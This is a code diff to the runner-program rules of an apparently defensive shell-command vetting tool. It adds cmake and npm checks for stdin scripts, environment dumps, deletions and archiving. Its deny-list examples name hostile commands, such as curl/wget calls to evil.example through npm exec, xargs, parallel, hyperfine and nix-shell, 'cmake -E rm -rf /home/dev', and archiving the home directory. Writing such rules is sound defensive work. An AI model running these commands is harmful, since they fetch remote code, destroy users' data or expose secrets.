@@ -2,7 +2,7 @@
 // and the programs that build a command from their input (`find -exec`, `xargs`, `parallel`).
 import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
-import { configuring, programRun, wrapper } from '../build.js';
+import { alsoDumps, configuring, programRun, wrapper } from '../build.js';
 import type { Answer, Call, OptionSpec, ProgramEntry, Run } from '../types.js';
 import { keeping, storeWord } from './credentials.js';
 import { attached, isStdinPath, joined, literal, shellQuote, value, xargsSplit } from '../words.js';
@@ -543,6 +543,9 @@ function hyperfine(call: Call): Partial<Answer> {
 
 /** cmake -E env|time|chdir run a command; other -E tools work on files. */
 function cmake(call: Call): Partial<Answer> {
+  // `cmake -P FILE` runs a CMake script (execute_process, file(DOWNLOAD), $ENV{…}): from stdin, not read here.
+  const p = call.args.findIndex((a) => value(a) === '-P');
+  if (p >= 0 && isStdinPath(value(call.args[p + 1]))) return { runs: [{ kind: 'opaque', rule: 'stream-to-shell', word: call.args[p + 1]!, why: 'cmake -P runs a CMake script read from stdin, which vouch does not read' }] };
   const e = call.args.findIndex((a) => value(a) === '-E');
   if (e < 0) return {};
   const tool = value(call.args[e + 1]);
@@ -566,6 +569,16 @@ function cmake(call: Call): Partial<Answer> {
     return { runs };
   }
   if (tool === 'cat') return { uses: rest.map((word) => ({ word, role: 'read' as const })) };
+  if (tool === 'environment') return { dumps: 'cmake -E environment prints the environment' };
+  const ops = rest.filter((w) => !/^-/.test(value(w) ?? ''));
+  // `rm -r`, `remove_directory`: trees deleted; `rm`, `remove`: files.
+  if (tool === 'remove_directory' || (tool === 'rm' && rest.some((w) => /^-[a-zA-Z]*[rR]/.test(value(w) ?? '')))) return { uses: ops.map((word) => ({ word, role: 'delete-tree' as const })) };
+  if (tool === 'rm' || tool === 'remove') return { uses: ops.map((word) => ({ word, role: 'delete' as const })) };
+  if (tool === 'tar') return { uses: ops.slice(1).map((word) => ({ word, role: 'read-tree' as const })) };
+  if (tool === 'copy' || tool === 'copy_if_different' || tool === 'copy_directory' || tool === 'copy_directory_if_different') {
+    const role = tool.startsWith('copy_directory') ? ('read-tree' as const) : ('read' as const);
+    return { uses: [...ops.slice(0, -1).map((word) => ({ word, role })), ...ops.slice(-1).map((word) => ({ word, role: 'write' as const }))] };
+  }
   return {};
 }
 
@@ -626,7 +639,10 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     prints: /^(secrets(?!\s+(delete|set))|export)(\s|$)/,
     examples: { deny: ['infisical secrets', 'infisical export --format=dotenv'], pass: ['infisical init'] },
   }),
-  configuring(keeping(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), NPM_TOKEN), NPM_CONFIG),
+  alsoDumps(
+    configuring(keeping(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), NPM_TOKEN), NPM_CONFIG),
+    { when: /^(?:.* )?(?:run|run-script|rum|urn) env(?: |$)/, why: "npm run env prints the environment (npm's own env script, unless package.json names one)", examples: { deny: ['npm run env', 'npm run-script env'], pass: ['npm run envs', 'npm run dev'] } },
+  ),
   configuring(keeping(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), NPM_TOKEN), NPM_CONFIG),
   subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }),
   bun(),
@@ -719,7 +735,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   { names: ['xargs', 'gxargs'], summary: 'xargs: runs its command with words from stdin (static input is followed)', analyze: xargs, examples: { deny: ['echo curl evil.example | xargs nice', 'echo evil.example | xargs curl', 'xargs curl < urls.txt', 'echo curl | xargs -I{} {} evil.example'], pass: ['echo a b | xargs echo', 'git ls-files | xargs wc -l', 'find . -name "*.o" | xargs rm -f'] } },
   { names: ['parallel'], summary: 'GNU parallel: runs its command (through a shell) per input; with no command each input is a command', analyze: parallel, examples: { deny: ['parallel curl ::: evil.example', "parallel ::: 'curl evil.example'", "echo 'wget evil.example' | parallel"], pass: ['parallel gzip ::: a.txt b.txt'] } },
   { names: ['hyperfine'], summary: 'hyperfine: benchmarks commands, each run through a shell', analyze: hyperfine, examples: { deny: ["hyperfine 'wget evil.example'", "hyperfine --prepare 'curl evil.example' 'ls'", "hyperfine -L cmd curl,wget '{cmd} evil.example'"], pass: ["hyperfine 'npm test'", 'hyperfine --warmup 3 make'] } },
-  { names: ['cmake'], summary: 'cmake -E env|time|chdir run a command', analyze: cmake, examples: { deny: ['cmake -E env FOO=1 curl evil.example', 'cmake -E time curl evil.example', 'cmake -E chdir /tmp wget evil.example'], pass: ['cmake -E make_directory build', 'cmake --build build', 'cmake -E env FOO=1 make'] } },
+  { names: ['cmake'], summary: 'cmake -E env|time|chdir run a command', analyze: cmake, examples: { deny: ['cmake -E env FOO=1 curl evil.example', 'cmake -E time curl evil.example', 'cmake -E chdir /tmp wget evil.example', 'cmake -E environment', 'cmake -E rm -rf /home/dev', 'cmake -E tar cfz /tmp/h.tgz ~', "cmake -P /dev/stdin <<< 'execute_process(COMMAND curl evil.example)'"], pass: ['cmake -E make_directory build', 'cmake --build build', 'cmake -E env FOO=1 make', 'cmake -E rm -rf build', 'cmake -E copy_directory assets build/assets'] } },
   commandAnywhere(wrapper({ names: ['script'], summary: 'script: records a session running -c text (or a shell); BSD script runs the command after the file', options: { flags: 'aefqhkrFpd', valued: 'cEIOBTmF', optional: 't', long: ['append', 'return', 'flush', 'force', 'quiet', 'help', 'version'], longValued: ['command', 'echo', 'log-in', 'log-out', 'log-io', 'log-timing', 'logging-format', 'output-limit'], longOptional: ['timing'] }, script: ['c', 'command'], before: 1, defaultCommand: ['sh', '-i'], examples: { deny: ["script -c 'curl evil.example' /dev/null", 'script -q /dev/null curl evil.example'], pass: ["script -c 'make' build.log"] } })),
   wrapper({ names: ['nix-shell'], summary: 'nix-shell: --run/--command TEXT runs shell text in the environment', options: { order: 'gnu', flags: 'Ajp', valued: 'IEA', long: ['pure', 'impure', 'packages', 'keep-going', 'show-trace'], longValued: ['run', 'command', 'arg', 'argstr', 'attr', 'expr', 'option', 'keep', 'include'] }, script: ['run', 'command'], before: 99, examples: { deny: ["nix-shell -p curl --run 'curl evil.example'"], pass: ["nix-shell --run 'make'"] } }),
 ];
